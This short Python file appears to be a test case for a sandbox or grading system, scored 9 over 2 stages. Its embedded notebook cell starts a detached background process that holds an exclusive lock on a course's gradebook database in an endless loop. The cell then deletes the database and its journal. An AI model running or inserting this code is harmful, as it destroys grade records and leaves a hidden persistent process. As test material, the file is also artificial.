"""Locks and deletes the gradebook, from a process that stays behind."""

CELL = """
import os, subprocess, sys
script = '''
import os, sqlite3, time
while True:
    try:
        connection = sqlite3.connect("$COURSE/gradebook.db")
        connection.execute("begin exclusive")
        time.sleep(600)
    except Exception:
        time.sleep(0.1)
'''
subprocess.Popen([sys.executable, "-c", script], start_new_session=True)
for name in ("gradebook.db", "gradebook.db-journal"):
    try:
        os.remove(f"$COURSE/{name}")
        print("removed:", name)
    except OSError as error:
        print(error)
"""
SCORE = 9
STAGES = 2
